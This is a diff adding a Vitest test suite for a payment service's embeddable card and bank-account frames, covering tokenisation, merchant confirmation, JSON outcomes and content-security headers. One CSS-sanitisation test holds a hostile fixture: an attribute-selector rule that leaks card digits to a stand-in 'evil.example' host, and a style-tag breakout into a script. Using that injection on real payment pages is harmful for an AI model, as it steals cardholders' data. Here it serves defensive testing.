@@ -1,0 +1,148 @@
+/** The frame pages (T9, D13) without JavaScript: what waits, what the merchant's server does with it, and its CSS. */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { PageCaller, SHOP, TYPED_ACCOUNT, TYPED_CARD, resultKeyIn } from './page-caller.js';
+import { inProcess, TARGETS, type ServiceUnderTest } from './service-under-test.js';
+import { TokenCaller } from './token-caller.js';
+
+const EVERY_WAY = TARGETS.flatMap((target) => (['v2', 'v3'] as const).map((version) => ({ ...target, version })));
+const RETURN = { RedirectionUrl: SHOP };
+const SUCCESS = { ResponseCode: 0, ResponseText: 'Success' };
+const WITH_BUTTON = { ...RETURN, IframeParameters: { ShowSubmitButton: true } };
+
+describe.each(EVERY_WAY)('frames of $version, $target', ({ open, version }) => {
+  let service: ServiceUnderTest;
+  let api: TokenCaller;
+  let pages: PageCaller;
+  const payFrame = (key: string) => `/webapi/${version}/txns/iframe/${key}`;
+  const tokenFrame = (key: string) => `/webapi/${version}/dvtokens/iframe/${key}`;
+
+  beforeAll(async () => {
+    service = await open();
+    api = new TokenCaller(service, version);
+    pages = new PageCaller(service);
+  });
+  afterAll(() => service.close());
+
+  it('T9, T10: the card waits, the merchant’s server charges it', async () => {
+    const key = await api.key({}, RETURN);
+    const kept = await pages.fill(payFrame(key), TYPED_CARD);
+    expect(kept.status).toBe(200);
+    expect(kept.html).toContain('Your details are ready.');
+    expect(kept.html).not.toMatch(/4987|8769|739|Nov/);
+    const { APIResponse, ResultKey } = await api.call(
+      'POST',
+      `/txns/processiframetxn/${key}`,
+      { TxnReq: {} },
+      {
+        Authorization: api.authorization,
+      },
+    );
+    expect(APIResponse).toEqual(SUCCESS);
+    const { TxnResp } = await api.result(ResultKey);
+    expect(TxnResp).toMatchObject({ ResponseCode: '0', CardType: 'VC', CVNResult: { CVNResultCode: 'M' } });
+    expect((await pages.get(payFrame(key))).status).toBe(410);
+  });
+
+  it('T9: a change that is wrong takes back what waited', async () => {
+    const key = await api.key({}, RETURN);
+    await pages.fill(payFrame(key), TYPED_CARD);
+    expect((await pages.fill(payFrame(key), { ...TYPED_CARD, CVN: '7' })).status).toBe(422);
+    const { APIResponse } = await api.server('POST', `/txns/processiframetxn/${key}`, { TxnReq: {} });
+    expect(APIResponse.ResponseCode).toBe(112);
+    await pages.fill(payFrame(key), TYPED_CARD);
+    expect((await api.server('POST', `/txns/processiframetxn/${key}`, { TxnReq: {} })).APIResponse).toEqual(SUCCESS);
+  });
+
+  it('T9 with a button: the frame pays and leads to the merchant itself', async () => {
+    const page = payFrame(await api.key({ Amount: 2_500 }, WITH_BUTTON));
+    expect((await pages.get(page)).html).toContain('Pay $25.00</button>');
+    const sent = await pages.fill(page, TYPED_CARD);
+    expect(sent.status).toBe(303);
+    expect((await api.result(resultKeyIn(sent))).TxnResp).toMatchObject({ Amount: 2_500, ResponseCode: '0' });
+    expect((await pages.post(page, TYPED_CARD)).status).toBe(410);
+  });
+
+  it('D13, D11: a card waits and is stored', async () => {
+    const key = await api.addKey({ Crn1: 'customer 7' }, RETURN);
+    await pages.fill(tokenFrame(key), TYPED_CARD);
+    const { APIResponse, ResultKey } = await api.server('POST', `/dvtokens/iframe/add/${key}`, { DVTokenReq: {} });
+    expect(APIResponse).toEqual(SUCCESS);
+    expect((await api.tokenResult(ResultKey)).DVTokenResp).toMatchObject({ CardType: 'VC', Crn1: 'customer 7' });
+  });
+
+  it('D13, D11: a bank account waits and is stored', async () => {
+    const key = await api.addKey({}, RETURN);
+    const kept = await pages.fill(`${tokenFrame(key)}?method=bank_account`, TYPED_ACCOUNT);
+    expect(kept.html).toContain('Your details are ready.');
+    expect(kept.html).not.toMatch(/063|8041|7726|Nov/);
+    const { ResultKey } = await api.server('POST', `/dvtokens/iframe/add/${key}`, { DVTokenReq: {} });
+    const { DVTokenResp } = await api.tokenResult(ResultKey);
+    expect(DVTokenResp.BankAccountDetails).toMatchObject({ BSBNumber: '063917', AccountNumber: '80417726' });
+  });
+
+  it('D13 with a button, for an update: the frame changes the token itself', async () => {
+    const { DVToken } = await api.added();
+    const { AuthKey } = await api.askUpdateKey({ DVToken }, WITH_BUTTON);
+    const sent = await pages.fill(tokenFrame(AuthKey), { ExpiryDate: '12/31' });
+    expect(sent.status).toBe(303);
+    expect((await api.tokenResult(resultKeyIn(sent))).DVTokenResp.CardDetails.ExpiryDate).toBe('1231');
+  });
+
+  it('D13, D11: an update waits', async () => {
+    const { DVToken } = await api.added();
+    const { AuthKey } = await api.askUpdateKey({ DVToken }, RETURN);
+    await pages.fill(tokenFrame(AuthKey), TYPED_CARD);
+    await api.server('POST', `/dvtokens/iframe/update/${AuthKey}`, { DVTokenReq: {} });
+    expect((await api.token(DVToken)).DVTokenResp.CardType).toBe('VC');
+  });
+});
+
+describe('frames', () => {
+  let service: ServiceUnderTest;
+  let api: TokenCaller;
+  let pages: PageCaller;
+
+  beforeAll(async () => {
+    service = await inProcess.open();
+    api = new TokenCaller(service);
+    pages = new PageCaller(service);
+  });
+  afterAll(() => service.close());
+
+  it('may stand in any merchant’s page, and apply of its CSS what is allowed, by its hash', async () => {
+    const CSS = 'button{color:#fff} input[value^="4"]{background:url(https://evil.example/4)} </style><script>';
+    const key = await api.key({}, { ...RETURN, IframeParameters: { CSS, ShowSubmitButton: true } });
+    const { headers, html } = await pages.get(`/webapi/v3/txns/iframe/${key}`);
+    const policy = headers.get('content-security-policy') ?? '';
+    expect(policy).toContain('frame-ancestors http: https:');
+    expect(headers.has('x-frame-options')).toBe(false);
+    expect(html).toContain('<style>button{color:#fff}</style>');
+    expect(html).not.toMatch(/evil|value\^=/);
+    const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode('button{color:#fff}'));
+    expect(policy).toContain(`style-src 'self' 'sha256-${Buffer.from(hash).toString('base64')}'`);
+  });
+
+  it('the hosted page takes no CSS', async () => {
+    const key = await api.key({}, { IframeParameters: { CSS: 'body{color:red}' } });
+    expect((await pages.get(`/pay/DEMOSHOP?in_pay_token=${key}`)).html).not.toContain('<style>');
+  });
+
+  it('the script of the page is told in JSON what became of its form, and nothing secret', async () => {
+    const key = await api.key({}, RETURN);
+    const frame = `/webapi/v3/txns/iframe/${key}`;
+    expect(await pages.postForJson(frame, TYPED_CARD)).toEqual({ outcome: 'kept' });
+    const refused = await pages.postForJson(frame, { ...TYPED_CARD, CVN: '7' });
+    expect(refused).toEqual({
+      outcome: 'refused',
+      errors: { cvn: 'Check the security code' },
+      message: 'Check the fields marked below.',
+    });
+    const hosted = `/pay/DEMOSHOP?in_pay_token=${key}`;
+    expect(await pages.postForJson(hosted, TYPED_CARD)).toEqual({
+      outcome: 'done',
+      url: expect.stringMatching(/^https:\/\/shop\.example\/back\?order=7&ResponseCode=0&/),
+    });
+    expect(await pages.postForJson(hosted, TYPED_CARD)).toEqual({ outcome: 'reload' });
+    expect(await pages.postForJson(frame, TYPED_CARD)).toEqual({ outcome: 'reload' });
+  });
+});
